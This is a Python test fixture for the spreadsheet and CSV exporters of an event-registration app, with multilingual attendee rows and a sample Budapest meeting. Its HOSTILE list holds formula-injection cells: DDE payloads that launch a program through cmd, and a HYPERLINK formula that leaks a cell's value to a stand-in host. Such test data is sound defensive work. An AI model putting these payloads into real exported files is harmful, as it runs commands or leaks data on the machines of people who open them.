"""Rows and an event built directly, as core would return them: the exporters need no database."""

from __future__ import annotations

import datetime as dt
import unicodedata
from typing import Any

from budapest_desk.core.events import EventRow
from budapest_desk.core.registrations import RegistrationRow
from budapest_desk.db.enums import EventKind, EventStatus, RegistrationStatus

# (first name, last name, name in Latin letters), each as people write it, in NFC.
NAMES = [
    ("محمد\u200cرضا", "حسینی", "Mohammadreza Hosseini"),  # Persian, with a zero-width non-joiner
    ("Ольга", "Петрова", "Olga Petrova"),
    ("Γεώργιος", "Παπαδόπουλος", "Georgios Papadopoulos"),
    ("ნინო", "ბერიძე", "Nino Beridze"),
    ("রহিম", "উদ্দিন", "Rahim Uddin"),
    ("Gyöngyvér", "Kovács", ""),
    ("Erzsébet", "Szőke-Győrffy", ""),
]
assert all(unicodedata.is_normalized("NFC", part) for name in NAMES for part in name)

# The hostile cells of indico's spreadsheet tests, and DDE payloads.
HOSTILE = [
    "=foo",
    "+foo",
    "-foo",
    "@foo",
    "=+-@foo",
    "++foo",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.org/?leak="&A1,"Click")',
]

EVENT = EventRow(
    id=1,
    title="Senior Officials' Meeting",
    kind=EventKind.SENIOR_OFFICIALS_MEETING,
    status=EventStatus.REGISTRATION_OPEN,
    start_date=dt.date(2027, 5, 12),
    end_date=dt.date(2027, 5, 13),
    venue="Várkert Bazár",
    city="Budapest",
    country="HU",
    online=False,
    capacity=None,
    time_zone="Europe/Budapest",
    description="",
    hosts="",
)

# 06:30 UTC is 08:30 in Budapest in May (summer time).
CHECKED_IN_AT = dt.datetime(2027, 5, 12, 6, 30, tzinfo=dt.UTC)


def registration(i: int = 1, **changes: Any) -> RegistrationRow:
    first, last, latin = NAMES[i % len(NAMES)]
    fields: dict[str, Any] = {
        "id": i,
        "event_id": 1,
        "person_id": i,
        "title": "",
        "first_name": first,
        "last_name": last,
        "email": f"person{i}@example.org",
        "country": "HU",
        "organisation": "Ministry of Interior",
        "position": "Head of Unit",
        "status": RegistrationStatus.CONFIRMED,
        "category_id": 2,
        "category": "Delegate",
        "category_colour": "#1f77b4",
        "delegation_country": "HU",
        "delegation_organisation": "",
        "needs_attention": False,
        "attention_note": "",
        "list_consent": True,
        "checkin_code": f"K7Q{i:05d}",
        "name_latin": latin,
        "phone": "+36 1 234 5678",
    }
    fields.update(changes)
    return RegistrationRow(**fields)


def registrations(n: int) -> list[RegistrationRow]:
    return [registration(i) for i in range(n)]
